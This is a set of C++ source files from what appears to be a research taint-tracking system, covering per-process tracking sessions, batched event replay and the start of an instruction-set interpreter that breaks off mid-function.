    /**
     * Create @p pid's session now (submit() also creates lazily).
     * @return false when the pid is already active.
     */
    bool attach(ProcId pid);

    /**
     * Tear down @p pid's session (process exit — its taint state is
     * moot, so this is a clean removal, not a loss).
     * @return false when no session exists.
     */
    bool detach(ProcId pid);

    /**
     * Offer one event. @return true when queued; false when the
     * shard's queue is full — the event is NOT tracked, and the pid
     * is marked lost so its next drain degrades it to MaybeTainted.
     */
    bool submit(const ServiceEvent &ev);

    /**
     * Bulk submit; groups consecutive same-shard events under one
     * lock acquisition. @return events accepted (refusals mark the
     * pid lost exactly like submit()).
     */
    size_t submitMany(const ServiceEvent *evs, size_t n);

    /** Drain every shard queue (exec::parallelFor over shards). */
    void pump(unsigned jobs = 0);

    /**
     * Run idle expiry and byte-ceiling eviction. Call from a single
     * control thread (or between pumps); never concurrently with
     * itself.
     */
    void maintain();

    /**
     * Synchronous sink check: drain the pid's shard inline, then run
     * the check through its session (creating one — state-lost if
     * tombstoned — when absent). This is the latency-critical
     * operation the bench measures at p99.
     */
    core::SinkVerdict checkSinkNow(ProcId pid, Addr start, Addr end,
                                   uint32_t id);

    /**
     * Threaded mode: park one worker per shard on @p pool (the call
     * blocks inside pool.forEach until stop()). Producers call
     * submit()/submitMany() concurrently from other threads. A pool
     * narrower than the shard count is served too (with a warning):
     * each worker multiplexes shards [i, i+n, i+2n, ...] using timed
     * waits, trading some wakeup latency for full coverage.
     */
    void runWorkers(exec::ThreadPool &pool);

    /** Quiesce threaded mode: drain what is queued, release workers. */
    void stop();

    PidState pidState(ProcId pid) const;

    /** Sink results recorded so far for @p pid (empty when unknown). */
    std::vector<core::SinkResult> sinkResultsFor(ProcId pid) const;

    /**
     * The pid's flight recorder, for provenance::explainPid. Null
     * when the session is absent or provenance is off. Only valid
     * while the service is quiescent (no concurrent drains) and
     * until the session is evicted/expired/detached.
     */
    const provenance::Recorder *recorderFor(ProcId pid) const;

    /** Aggregate counters (sums the per-shard tallies). */
    ServiceStats stats() const;

    /** Live sessions, ascending pid. */
    std::vector<SessionInfo> sessions() const;

    const ServiceConfig &config() const { return cfg_; }

    /**
     * Logical ingest clock (ticks = accepted events, sink checks and
     * overflow loss marks).
     */
    uint64_t clock() const
    {
        return clock_.load(std::memory_order_relaxed);
    }

  private:
    struct Shard;

    Shard &shardFor(ProcId pid);
    const Shard &shardFor(ProcId pid) const;

    /** Apply queued events + loss marks; caller holds the lock. */
    void drainLocked(Shard &sh);

    /** Find-or-create the session; caller holds the lock. */
    Session &sessionLocked(Shard &sh, ProcId pid);

    /** Serve shards first, first+stride, ... until stop(). */
    void workerLoop(size_t first, size_t stride);

    ServiceConfig cfg_;
    std::vector<std::unique_ptr<Shard>> shards_;
    std::atomic<uint64_t> clock_{0};
    std::atomic<bool> stopping_{false};
    std::atomic<bool> threaded_{false};
    std::atomic<size_t> nworkers_{0}; //!< threaded mode: worker count
};

/**
 * Flatten a captured trace into the event stream a capture front-end
 * would ship: memory records (their pid replaced by @p pid) and the
 * interleaved control events, in replay() order. Non-memory records
 * are dropped — the tracker keys on the per-process counter each
 * memory record already carries. Registry traces are single-process,
 * so the pid override preserves verdict semantics exactly.
 */
std::vector<ServiceEvent> eventsFromTrace(const sim::Trace &trace,
                                          ProcId pid);

} // namespace pift::service

#endif // PIFT_SERVICE_SERVICE_HH
