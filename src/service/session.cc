#include "service/session.hh"

#include "support/logging.hh"

namespace pift::service
{

Session::Session(ProcId pid, const SessionConfig &cfg, bool state_lost)
    : pid_(pid), storage_(cfg.storage), tracker_(cfg.params, storage_)
{
    if (cfg.provenance && provenance::compiledIn()) {
        provenance::RecorderParams rp;
        rp.ring_capacity = cfg.ring_capacity;
        recorder_ = std::make_unique<provenance::Recorder>(rp);
        tracker_.setRecorder(recorder_.get());
        storage_.setRecorder(recorder_.get());
    }
    if (!cfg.durable_dir.empty()) {
        // ensureDir creates one level; make the shared parent first,
        // the per-pid directory is made by the session's start().
        persist::ensureDir(cfg.durable_dir);
        persist::DurableOptions opts;
        opts.dir = cfg.durable_dir + "/pid_" + std::to_string(pid);
        opts.snapshot_every = cfg.snapshot_every;
        opts.flush_each = false; // the service flushes on detach
        durable_ = std::make_unique<persist::DurableSession>(
            storage_, tracker_, opts);
        Status st = durable_->start();
        if (!st.ok())
            pift_warn_limited(4, "service: durable start for pid %u "
                              "failed: %s", pid, st.message().c_str());
        else
            tracker_.setJournal(durable_.get());
    }
    // A session re-admitted after eviction (or a lossy expiry) starts
    // from nothing: declare the loss so negative sink checks degrade
    // to MaybeTainted instead of lying Clean.
    if (state_lost)
        tracker_.noteStateLoss();
}

Session::~Session()
{
    if (durable_) {
        tracker_.setJournal(nullptr);
        durable_->close();
    }
}

void
Session::apply(const ServiceEvent &ev)
{
    ++events_;
    switch (ev.kind) {
      case EventKind::Load:
      case EventKind::Store: {
        sim::TraceRecord rec;
        rec.seq = ++records_fed_;
        rec.local_seq = ev.local_seq;
        rec.pid = pid_;
        rec.mem_kind = ev.kind == EventKind::Load ? sim::MemKind::Load
                                                  : sim::MemKind::Store;
        rec.mem_start = ev.start;
        rec.mem_end = ev.end;
        tracker_.onRecord(rec);
        break;
      }
      case EventKind::Source:
      case EventKind::Sink:
      case EventKind::Clear: {
        sim::ControlEvent ctl;
        ctl.seq = records_fed_;
        ctl.kind = ev.kind == EventKind::Source
                       ? sim::ControlKind::RegisterSource
                       : ev.kind == EventKind::Sink
                             ? sim::ControlKind::CheckSink
                             : sim::ControlKind::ClearAll;
        ctl.pid = pid_;
        ctl.start = ev.start;
        ctl.end = ev.end;
        ctl.id = ev.id;
        tracker_.onControl(ctl);
        break;
      }
    }
}

core::SinkVerdict
Session::checkSink(const taint::AddrRange &r, uint32_t id)
{
    ServiceEvent ev;
    ev.pid = pid_;
    ev.kind = EventKind::Sink;
    ev.start = r.start;
    ev.end = r.end;
    ev.id = id;
    apply(ev);
    return tracker_.sinkResults().back().verdict;
}

void
Session::noteStreamLoss()
{
    tracker_.noteStreamLoss(pid_);
}

bool
Session::durableHealthy() const
{
    return !durable_ || durable_->healthy();
}

} // namespace pift::service
