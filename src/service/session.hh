/**
 * @file
 * One tracked process inside the multi-tenant service (DESIGN.md §14).
 *
 * A Session is the per-PID unit the daemon multiplexes: its own
 * TaintStorage (the paper's bounded CAM model), its own PiftTracker
 * window machine, an optional provenance flight recorder wired to
 * both, and an optional persist::DurableSession journaling every
 * mutation. The shape mirrors the Ledger per-page manager pattern —
 * a manager object owning the full state of one logical tenant, with
 * the connection-multiplexing layer (service.hh) deciding when one is
 * created, parked, or torn down.
 *
 * Sessions are not thread-safe; the owning shard's lock serializes
 * all access (service.cc).
 */

#ifndef PIFT_SERVICE_SESSION_HH
#define PIFT_SERVICE_SESSION_HH

#include <memory>
#include <string>
#include <vector>

#include "core/pift_tracker.hh"
#include "core/taint_storage.hh"
#include "persist/durable.hh"
#include "provenance/recorder.hh"
#include "support/types.hh"
#include "taint/addr_range.hh"

namespace pift::service
{

/** What one ingested event asks of a session. */
enum class EventKind : uint8_t
{
    Load = 0, //!< memory load of [start, end]
    Store,    //!< memory store to [start, end]
    Source,   //!< register a taint source over [start, end]
    Sink,     //!< check [start, end] at a sink
    Clear     //!< drop the process's taint state (app restart)
};

/**
 * One event submitted to the service. The wire-level analogue of the
 * kernel module's input: a memory access (pid, per-process
 * instruction counter, access kind, byte range — Section 3.3) or an
 * interleaved software command. Non-memory retired instructions are
 * never shipped; the tracker's window arithmetic keys on local_seq,
 * which the capture side stamps.
 */
struct ServiceEvent
{
    ProcId pid = 0;
    EventKind kind = EventKind::Load;
    Addr start = 0;
    Addr end = 0;          //!< inclusive, like taint::AddrRange
    SeqNum local_seq = 0;  //!< per-process instruction counter
    uint32_t id = 0;       //!< source/sink identifier (app-defined)
};

/** Per-session configuration, shared by every session of a service. */
struct SessionConfig
{
    core::PiftParams params;          //!< tainting window (NI, NT)
    core::TaintStorageParams storage; //!< bounded CAM model

    /**
     * Attach a per-session provenance flight recorder so sink
     * verdicts — including backpressure-induced MaybeTainted — can
     * be explained after the fact. No-op in PIFT_PROVENANCE=OFF
     * builds (the stub recorder records nothing).
     */
    bool provenance = false;
    size_t ring_capacity = 4096; //!< recorder ring, when enabled

    /**
     * When non-empty, each session journals into
     * `<durable_dir>/pid_<pid>` through a persist::DurableSession
     * (snapshot + WAL, crash-recoverable).
     */
    std::string durable_dir;
    uint64_t snapshot_every = 0; //!< WAL rotation cadence (0 = never)
};

/**
 * The tracking state of one attached PID. `state_lost` constructions
 * (re-admission after an eviction or a lossy expiry) immediately
 * declare state loss so every later negative sink check answers
 * MaybeTainted — an evicted tenant can never be silently Clean.
 */
class Session
{
  public:
    Session(ProcId pid, const SessionConfig &cfg, bool state_lost);
    ~Session();

    Session(const Session &) = delete;
    Session &operator=(const Session &) = delete;

    /** Feed one event through the tracker. */
    void apply(const ServiceEvent &ev);

    /** Synchronous sink check; records a SinkResult like apply. */
    core::SinkVerdict checkSink(const taint::AddrRange &r,
                                uint32_t id);

    /** Front-end loss (shard overflow dropped this pid's events). */
    void noteStreamLoss();

    ProcId pid() const { return pid_; }

    /** Bytes this session's storage holds (eviction pressure). */
    uint64_t storageBytes() const { return storage_.bytes(); }

    /** True when Clean answers can no longer be trusted. */
    bool degraded() const { return tracker_.degraded(pid_); }

    /** Logical-clock tick of the last ingested event. */
    uint64_t lastActive() const { return last_active_; }
    void touch(uint64_t tick) { last_active_ = tick; }

    uint64_t eventsApplied() const { return events_; }

    const std::vector<core::SinkResult> &
    sinkResults() const
    {
        return tracker_.sinkResults();
    }

    /** The flight recorder, or null when provenance is off. */
    const provenance::Recorder *recorder() const
    {
        return recorder_.get();
    }

    /** False when the durable journal hit an I/O failure. */
    bool durableHealthy() const;

  private:
    ProcId pid_;
    core::TaintStorage storage_;
    core::PiftTracker tracker_;
    std::unique_ptr<provenance::Recorder> recorder_;
    std::unique_ptr<persist::DurableSession> durable_;
    uint64_t last_active_ = 0;
    uint64_t events_ = 0;
    SeqNum records_fed_ = 0; //!< synthetic global seq for the tracker
};

} // namespace pift::service

#endif // PIFT_SERVICE_SESSION_HH
