#include "sim/batch.hh"

#include <algorithm>

#include "telemetry/telemetry.hh"

namespace pift::sim
{

namespace
{

/** Batch-pipeline instruments, resolved once (see DESIGN.md §9). */
struct BatchTel
{
    telemetry::Counter &packed_traces =
        telemetry::counter("sim.batch.packed_traces");
    telemetry::Counter &packed_records =
        telemetry::counter("sim.batch.packed_records");
    telemetry::Counter &packed_mem_events =
        telemetry::counter("sim.batch.packed_mem_events");
    telemetry::Counter &sealed_batches =
        telemetry::counter("sim.batch.sealed_batches");
    telemetry::Counter &sealed_records =
        telemetry::counter("sim.batch.sealed_records");
    telemetry::Counter &replays =
        telemetry::counter("sim.batch.replays");
    telemetry::Counter &batches =
        telemetry::counter("sim.batch.batches");
    telemetry::Counter &records_replayed =
        telemetry::counter("sim.batch.records_replayed");
};

BatchTel &
btel()
{
    static BatchTel t;
    return t;
}

} // anonymous namespace

PackedTrace::PackedTrace(const Trace &trace) : src(&trace)
{
    telemetry::Span span("sim:pack_trace", "sim");
    const auto &recs = trace.records;
    size_t nmem = 0;
    for (const auto &rec : recs)
        nmem += rec.mem_kind != MemKind::None;
    mem_index_.reserve(nmem);
    pid_.reserve(nmem);
    local_seq_.reserve(nmem);
    pc_.reserve(nmem);
    start_.reserve(nmem);
    end_.reserve(nmem);
    kind_.reserve(nmem);
    for (size_t i = 0; i < recs.size(); ++i) {
        const TraceRecord &rec = recs[i];
        if (rec.mem_kind == MemKind::None)
            continue;
        mem_index_.push_back(static_cast<uint32_t>(i));
        pid_.push_back(rec.pid);
        local_seq_.push_back(rec.local_seq);
        pc_.push_back(rec.pc);
        start_.push_back(rec.mem_start);
        end_.push_back(rec.mem_end);
        kind_.push_back(static_cast<uint8_t>(rec.mem_kind));
    }
    btel().packed_traces.inc();
    btel().packed_records.inc(recs.size());
    btel().packed_mem_events.inc(mem_index_.size());
}

uint32_t
PackedTrace::memCursor(uint32_t first) const
{
    auto it = std::lower_bound(mem_index_.begin(), mem_index_.end(),
                               first);
    return static_cast<uint32_t>(it - mem_index_.begin());
}

EventBatch
PackedTrace::slice(uint32_t first, uint32_t count,
                   uint32_t mem_cursor) const
{
    EventBatch b;
    b.count = count;
    b.index_base = first;
    if (count == 0)
        return b;
    b.records = src->records.data() + first;
    // Advance past the memory events inside [first, first + count);
    // linear, but bounded by the events the consumer is about to
    // process anyway.
    const uint32_t limit = first + count;
    uint32_t e = mem_cursor;
    while (e < mem_index_.size() && mem_index_[e] < limit)
        ++e;
    b.mem_count = e - mem_cursor;
    b.mem_index = mem_index_.data() + mem_cursor;
    b.pid = pid_.data() + mem_cursor;
    b.local_seq = local_seq_.data() + mem_cursor;
    b.pc = pc_.data() + mem_cursor;
    b.start = start_.data() + mem_cursor;
    b.end = end_.data() + mem_cursor;
    b.kind = kind_.data() + mem_cursor;
    return b;
}

EventBatch
PackedTrace::sliceAt(uint32_t first, uint32_t count) const
{
    return slice(first, count, memCursor(first));
}

BatchPacker::BatchPacker(uint32_t capacity)
    : cap(capacity ? capacity : 1)
{
    records_.reserve(cap);
    mem_index_.reserve(cap);
    pid_.reserve(cap);
    local_seq_.reserve(cap);
    pc_.reserve(cap);
    start_.reserve(cap);
    end_.reserve(cap);
    kind_.reserve(cap);
}

void
BatchPacker::append(const TraceRecord &rec)
{
    const uint32_t pos = static_cast<uint32_t>(records_.size());
    records_.push_back(rec);
    if (rec.mem_kind == MemKind::None)
        return;
    mem_index_.push_back(pos);
    pid_.push_back(rec.pid);
    local_seq_.push_back(rec.local_seq);
    pc_.push_back(rec.pc);
    start_.push_back(rec.mem_start);
    end_.push_back(rec.mem_end);
    kind_.push_back(static_cast<uint8_t>(rec.mem_kind));
}

EventBatch
BatchPacker::seal() const
{
    btel().sealed_batches.inc();
    btel().sealed_records.inc(records_.size());
    EventBatch b;
    b.records = records_.data();
    b.count = static_cast<uint32_t>(records_.size());
    b.mem_count = static_cast<uint32_t>(mem_index_.size());
    b.index_base = 0;
    b.mem_index = mem_index_.data();
    b.pid = pid_.data();
    b.local_seq = local_seq_.data();
    b.pc = pc_.data();
    b.start = start_.data();
    b.end = end_.data();
    b.kind = kind_.data();
    return b;
}

void
BatchPacker::clear()
{
    records_.clear();
    mem_index_.clear();
    pid_.clear();
    local_seq_.clear();
    pc_.clear();
    start_.clear();
    end_.clear();
    kind_.clear();
}

void
replayBatched(const PackedTrace &packed, TraceSink &sink,
              uint32_t batch_records)
{
    const Trace &trace = packed.trace();
    if (batch_records == 0) {
        replay(trace, sink);
        return;
    }
    telemetry::Span span("sim:replay_batched", "sim");
    const size_t n = trace.records.size();
    const size_t nc = trace.controls.size();
    size_t ci = 0;
    size_t ri = 0;
    uint32_t cursor = 0;
    // Tally batches/records locally; one registry update per replay
    // keeps the hot loop free of atomics.
    uint64_t nbatches = 0;
    while (ri < n) {
        // Controls published before record ri come first, exactly as
        // in replayFrom().
        while (ci < nc && trace.controls[ci].seq <= ri)
            sink.onControl(trace.controls[ci++]);
        // The batch may not straddle the next control's position.
        size_t end = std::min(ri + batch_records, n);
        if (ci < nc)
            end = std::min(
                end, static_cast<size_t>(trace.controls[ci].seq));
        EventBatch b =
            packed.slice(static_cast<uint32_t>(ri),
                         static_cast<uint32_t>(end - ri), cursor);
        cursor += b.mem_count;
        sink.onBatch(b);
        ++nbatches;
        ri = end;
    }
    while (ci < nc)
        sink.onControl(trace.controls[ci++]);
    btel().replays.inc();
    btel().batches.inc(nbatches);
    btel().records_replayed.inc(n);
}

void
replayBatched(const Trace &trace, TraceSink &sink,
              uint32_t batch_records)
{
    if (batch_records == 0) {
        replay(trace, sink);
        return;
    }
    PackedTrace packed(trace);
    replayBatched(packed, sink, batch_records);
}

} // namespace pift::sim
