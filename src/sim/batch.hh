/**
 * @file
 * Batched, cache-friendly view of the retired-instruction stream.
 *
 * The single-event path (one virtual TraceSink::onRecord call per
 * retired instruction) spends most of its time on call overhead and
 * on dragging full TraceRecords through the cache when the tracker
 * only reads four fields of the memory events. This header is the
 * decoupling queue between execution and tracking that the adaptive
 * IFT-coprocessor line of work argues for: events are accumulated
 * into fixed-size chunks whose hot fields are laid out as a
 * structure-of-arrays (separate dense arrays for pid / pc / address
 * range / kind), so the tracker's window automaton runs a tight loop
 * over compact arrays and skips non-memory events entirely via the
 * index array.
 *
 * Per-event consumers keep working untouched: every batch also
 * carries the full records, and TraceSink::onBatch defaults to
 * unrolling them through onRecord. The batched and per-event paths
 * are verdict- and stats-identical by construction — handleMem-style
 * consumers process the same fields in the same order — and a
 * randomized differential over the whole app registry pins it
 * (tests/test_batch.cc).
 */

#ifndef PIFT_SIM_BATCH_HH
#define PIFT_SIM_BATCH_HH

#include <cstdint>
#include <vector>

#include "sim/trace.hh"
#include "support/types.hh"

namespace pift::sim
{

/** Default events-per-chunk of the batched pipeline. */
inline constexpr uint32_t default_batch_records = 1024;

/**
 * One chunk of consecutive retired-instruction events.
 *
 * `records`/`count` is the exact AoS run (for per-event unrolling);
 * the remaining pointers are parallel SoA arrays describing only the
 * `mem_count` memory events inside the run. `mem_index[k]` is the
 * record position of memory event k *relative to `index_base`* — a
 * batch sliced out of a PackedTrace reuses the trace-wide arrays, so
 * in-batch positions are `mem_index[k] - index_base`.
 *
 * All pointers borrow storage owned by the producer (a PackedTrace or
 * a producer-side scratch buffer) and are valid only for the duration
 * of the onBatch call.
 */
struct EventBatch
{
    const TraceRecord *records = nullptr;
    uint32_t count = 0;       //!< records in the batch

    uint32_t mem_count = 0;   //!< memory events in the batch
    uint32_t index_base = 0;  //!< subtract from mem_index for position
    const uint32_t *mem_index = nullptr;
    const ProcId *pid = nullptr;
    const SeqNum *local_seq = nullptr;
    const Addr *pc = nullptr;
    const Addr *start = nullptr; //!< first byte accessed (inclusive)
    const Addr *end = nullptr;   //!< last byte accessed (inclusive)
    const uint8_t *kind = nullptr; //!< MemKind values (Load/Store)
};

/**
 * A Trace packed once into the SoA layout so repeated replays (the
 * accuracy grids replay each capture hundreds of times) pay the
 * packing pass once instead of per replay. Immutable after
 * construction; safe to share read-only across pool workers.
 */
class PackedTrace
{
  public:
    explicit PackedTrace(const Trace &trace);

    const Trace &trace() const { return *src; }

    /** Memory events in the whole trace. */
    uint32_t memCount() const
    {
        return static_cast<uint32_t>(mem_index_.size());
    }

    /**
     * Batch view of records [first, first + count). @p mem_cursor is
     * the index into the memory-event arrays of the first memory
     * event at or past @p first — callers iterating sequentially
     * thread it through slices to avoid re-searching; sliceAt()
     * computes it when unknown.
     */
    EventBatch slice(uint32_t first, uint32_t count,
                     uint32_t mem_cursor) const;

    /** slice() with the memory cursor located by binary search. */
    EventBatch sliceAt(uint32_t first, uint32_t count) const;

    /**
     * Index into the memory-event arrays of the first memory event at
     * record position >= @p first.
     */
    uint32_t memCursor(uint32_t first) const;

  private:
    const Trace *src;
    std::vector<uint32_t> mem_index_; //!< record position, ascending
    std::vector<ProcId> pid_;
    std::vector<SeqNum> local_seq_;
    std::vector<Addr> pc_;
    std::vector<Addr> start_;
    std::vector<Addr> end_;
    std::vector<uint8_t> kind_;
};

/**
 * Producer-side chunk packer for live streams (the CPU's event
 * accumulator): append records, seal into an EventBatch, reuse.
 * The sealed batch borrows this object's storage.
 */
class BatchPacker
{
  public:
    explicit BatchPacker(uint32_t capacity = default_batch_records);

    /** True when a further append would exceed capacity. */
    bool full() const { return records_.size() >= cap; }

    bool empty() const { return records_.empty(); }

    uint32_t size() const
    {
        return static_cast<uint32_t>(records_.size());
    }

    void append(const TraceRecord &rec);

    /** View of everything appended since the last clear(). */
    EventBatch seal() const;

    void clear();

  private:
    uint32_t cap;
    std::vector<TraceRecord> records_;
    std::vector<uint32_t> mem_index_;
    std::vector<ProcId> pid_;
    std::vector<SeqNum> local_seq_;
    std::vector<Addr> pc_;
    std::vector<Addr> start_;
    std::vector<Addr> end_;
    std::vector<uint8_t> kind_;
};

/**
 * Replay a captured trace into a sink through the batched pipeline,
 * reproducing the original record/control interleaving exactly:
 * batches break at every control event, so a sink observes the same
 * ordered stream replay() delivers, just in chunks. batch_records ==
 * 0 falls back to the per-event replay().
 */
void replayBatched(const Trace &trace, TraceSink &sink,
                   uint32_t batch_records = default_batch_records);

/** replayBatched() over a trace packed ahead of time. */
void replayBatched(const PackedTrace &packed, TraceSink &sink,
                   uint32_t batch_records = default_batch_records);

} // namespace pift::sim

#endif // PIFT_SIM_BATCH_HH
