#include "sim/cpu.hh"

#include <algorithm>

#include "support/logging.hh"
#include "telemetry/registry.hh"

/*
 * Interpreter dispatch selection (DESIGN.md §12). On GCC/Clang the
 * execute loop uses computed-goto (token-threaded) dispatch in the
 * style of Dalvik's mterp: a static table of label addresses indexed
 * by opcode, so each handler ends in an indirect jump the branch
 * predictor can learn per-site, instead of funnelling every opcode
 * through one switch jump. -DPIFT_PORTABLE_DISPATCH=1 (or a non-GNU
 * compiler) falls back to the plain switch; the two are behaviourally
 * identical and CI builds both.
 */
#if !defined(PIFT_PORTABLE_DISPATCH) && \
    (defined(__GNUC__) || defined(__clang__))
#define PIFT_THREADED_DISPATCH 1
#else
#define PIFT_THREADED_DISPATCH 0
#endif

namespace pift::sim
{

namespace
{

/** CPU front-end instruments, resolved once (see DESIGN.md §9). */
struct CpuTel
{
    telemetry::Counter &decode_hits =
        telemetry::counter("sim.cpu.decode_cache_hits");
    telemetry::Counter &decode_misses =
        telemetry::counter("sim.cpu.decode_cache_misses");
};

CpuTel &
ctel()
{
    static CpuTel t;
    return t;
}

/** Default decoded-instruction cache capacity (slots). */
constexpr size_t default_decode_slots = 4096;

} // anonymous namespace

Cpu::Cpu(mem::Memory &memory, EventHub &hub_)
    : mem_ref(memory), hub(hub_)
{
    setDecodeCache(default_decode_slots);
    isa::Assembler stub(halt_stub_addr);
    stub.halt();
    loadProgram(stub.finish());
}

Cpu::~Cpu()
{
    if (tel_decode_hits)
        ctel().decode_hits.inc(tel_decode_hits);
    if (tel_decode_misses)
        ctel().decode_misses.inc(tel_decode_misses);
}

void
Cpu::setDecodeCache(size_t slots)
{
    if (slots == 0) {
        dcache.clear();
        dcache_mask = 0;
        return;
    }
    size_t cap = 1;
    while (cap < slots)
        cap <<= 1;
    dcache.assign(cap, DecodeSlot{});
    dcache_mask = static_cast<Addr>(cap - 1);
}

void
Cpu::setBatching(uint32_t records)
{
    flushBatch();
    batch_cap = records;
}

void
Cpu::loadProgram(isa::Program prog)
{
    if (prog.insts.empty())
        pift_panic("loading an empty program at 0x%x", prog.base);
    // Reject overlap with any mapped region.
    auto next = programs.lower_bound(prog.base);
    if (next != programs.end() && next->second.base < prog.end())
        pift_panic("program at 0x%x overlaps region at 0x%x", prog.base,
                   next->second.base);
    if (next != programs.begin()) {
        auto prev = std::prev(next);
        if (prev->second.end() > prog.base)
            pift_panic("program at 0x%x overlaps region at 0x%x",
                       prog.base, prev->second.base);
    }
    Addr base = prog.base;
    programs.emplace(base, std::move(prog));
    // The pc→instruction mapping changed: drop every cached decode.
    std::fill(dcache.begin(), dcache.end(), DecodeSlot{});
}

const isa::Inst *
Cpu::instAt(Addr addr) const
{
    auto it = programs.upper_bound(addr);
    if (it == programs.begin())
        return nullptr;
    const isa::Program &prog = std::prev(it)->second;
    if (!prog.contains(addr))
        return nullptr;
    return &prog.insts[(addr - prog.base) / isa::inst_bytes];
}

const isa::Inst *
Cpu::fetch(Addr addr)
{
    if (dcache_mask) {
        DecodeSlot &slot = dcache[(addr >> 2) & dcache_mask];
        if (slot.inst && slot.pc == addr) {
            if constexpr (telemetry::compiledIn())
                ++tel_decode_hits;
            return slot.inst;
        }
        const isa::Inst *inst = instAt(addr);
        if (inst) {
            slot.pc = addr;
            slot.inst = inst;
        }
        if constexpr (telemetry::compiledIn())
            ++tel_decode_misses;
        return inst;
    }
    return instAt(addr);
}

uint32_t
Cpu::reg(RegIndex r) const
{
    pift_assert(r < 16, "register index out of range");
    return regs[r];
}

void
Cpu::setReg(RegIndex r, uint32_t value)
{
    pift_assert(r < 16, "register index out of range");
    regs[r] = value;
}

SeqNum
Cpu::localCount(ProcId pid) const
{
    auto it = local_counts.find(pid);
    return it == local_counts.end() ? 0 : it->second;
}

bool
Cpu::condPasses(isa::Cond cond) const
{
    using isa::Cond;
    switch (cond) {
      case Cond::Al: return true;
      case Cond::Eq: return flag_z;
      case Cond::Ne: return !flag_z;
      case Cond::Cs: return flag_c;
      case Cond::Cc: return !flag_c;
      case Cond::Mi: return flag_n;
      case Cond::Pl: return !flag_n;
      case Cond::Ge: return flag_n == flag_v;
      case Cond::Lt: return flag_n != flag_v;
      case Cond::Gt: return !flag_z && flag_n == flag_v;
      case Cond::Le: return flag_z || flag_n != flag_v;
    }
    return true;
}

uint32_t
Cpu::readOperand2(const isa::Operand2 &op2) const
{
    if (op2.is_imm)
        return static_cast<uint32_t>(op2.imm);
    uint32_t v = regs[op2.reg];
    switch (op2.shift) {
      case isa::ShiftKind::Lsl:
        return op2.shift_amount >= 32 ? 0 : v << op2.shift_amount;
      case isa::ShiftKind::Lsr:
        return op2.shift_amount >= 32 ? 0 : v >> op2.shift_amount;
      case isa::ShiftKind::Asr:
        return static_cast<uint32_t>(
            static_cast<int32_t>(v) >>
            (op2.shift_amount >= 32 ? 31 : op2.shift_amount));
      case isa::ShiftKind::None:
        return v;
    }
    return v;
}

void
Cpu::setNZ(uint32_t result)
{
    flag_n = (result >> 31) & 1;
    flag_z = result == 0;
}

namespace
{

/** Effective address of a memory operand, applying writeback. */
Addr
effectiveAddress(std::array<uint32_t, 16> &regs,
                 const isa::MemOperand &mem)
{
    uint32_t base = regs[mem.base];
    if (mem.index != no_reg)
        return base + (regs[mem.index] << mem.index_shift);
    switch (mem.writeback) {
      case isa::WriteBack::None:
        return base + static_cast<uint32_t>(mem.offset);
      case isa::WriteBack::Pre: {
        Addr ea = base + static_cast<uint32_t>(mem.offset);
        regs[mem.base] = ea;
        return ea;
      }
      case isa::WriteBack::Post:
        regs[mem.base] = base + static_cast<uint32_t>(mem.offset);
        return base;
    }
    return base;
}

} // anonymous namespace

/*
 * One handler body per opcode group, written once and compiled under
 * either dispatch mode: PIFT_OP opens a handler (a goto label or a
 * case label) and PIFT_END leaves it (jump past the dispatch block or
 * break). Handler bodies must keep their own braces when they declare
 * locals, exactly as switch cases must.
 */
#if PIFT_THREADED_DISPATCH
#define PIFT_OP(name) lbl_##name:
#define PIFT_END goto lbl_dispatch_done
#else
#define PIFT_OP(name) case isa::Op::name:
#define PIFT_END break
#endif

void
Cpu::execute(const isa::Inst &inst, TraceRecord &rec)
{
    using isa::Op;

    auto alu_result = [&](uint32_t result, bool write_flags) {
        if (inst.rd == reg_pc) {
            regs[reg_pc] = result;
        } else if (inst.rd != no_reg) {
            regs[inst.rd] = result;
            if (write_flags)
                setNZ(result);
        }
        rec.dst = inst.rd;
    };

    auto add_flags = [&](uint32_t a, uint32_t b) {
        uint32_t r = a + b;
        flag_c = r < a;
        flag_v = ((~(a ^ b) & (a ^ r)) >> 31) & 1;
        setNZ(r);
        return r;
    };
    auto sub_flags = [&](uint32_t a, uint32_t b) {
        uint32_t r = a - b;
        flag_c = a >= b;
        flag_v = (((a ^ b) & (a ^ r)) >> 31) & 1;
        setNZ(r);
        return r;
    };

    auto src_alu = [&]() {
        uint8_t n = 0;
        if (inst.rn != no_reg)
            rec.src[n++] = inst.rn;
        if (!inst.op2.is_imm && inst.op2.reg != no_reg)
            rec.src[n++] = inst.op2.reg;
    };

#if PIFT_THREADED_DISPATCH
    // Label-address table in exact isa::Op order (NumOps entries);
    // shared handlers repeat their label. Opcodes come from the
    // assembler and are always < NumOps, so the index needs no guard
    // (the portable build's switch default still panics, keeping the
    // unimplemented-opcode diagnostic covered).
    static const void *const optable[static_cast<size_t>(
        Op::NumOps)] = {
        &&lbl_Nop,  &&lbl_Mov,  &&lbl_Mvn,  &&lbl_Add,  &&lbl_Sub,
        &&lbl_Rsb,  &&lbl_Mul,  &&lbl_And,  &&lbl_Orr,  &&lbl_Eor,
        &&lbl_Bic,  &&lbl_Lsl,  &&lbl_Lsr,  &&lbl_Asr,  &&lbl_Ubfx,
        &&lbl_Sbfx, &&lbl_Sxth, &&lbl_Uxth, &&lbl_Uxtb, &&lbl_Cmp,
        &&lbl_Cmn,  &&lbl_Tst,  &&lbl_B,    &&lbl_Bl,   &&lbl_Bx,
        &&lbl_Ldr,  &&lbl_Ldr,  &&lbl_Ldr,  &&lbl_Ldrd, &&lbl_Str,
        &&lbl_Str,  &&lbl_Str,  &&lbl_Strd, &&lbl_Ldm,  &&lbl_Stm,
        &&lbl_Svc,  &&lbl_Halt,
    };
    goto *optable[static_cast<size_t>(inst.op)];
#else
    switch (inst.op) {
#endif

    PIFT_OP(Nop)
        PIFT_END;

    PIFT_OP(Mov)
        src_alu();
        alu_result(readOperand2(inst.op2), inst.set_flags);
        PIFT_END;
    PIFT_OP(Mvn)
        src_alu();
        alu_result(~readOperand2(inst.op2), inst.set_flags);
        PIFT_END;
    PIFT_OP(Add) {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(inst.set_flags ? add_flags(a, b) : a + b, false);
        PIFT_END;
    }
    PIFT_OP(Sub) {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(inst.set_flags ? sub_flags(a, b) : a - b, false);
        PIFT_END;
    }
    PIFT_OP(Rsb) {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(b - a, inst.set_flags);
        PIFT_END;
    }
    PIFT_OP(Mul) {
        src_alu();
        alu_result(regs[inst.rn] * readOperand2(inst.op2),
                   inst.set_flags);
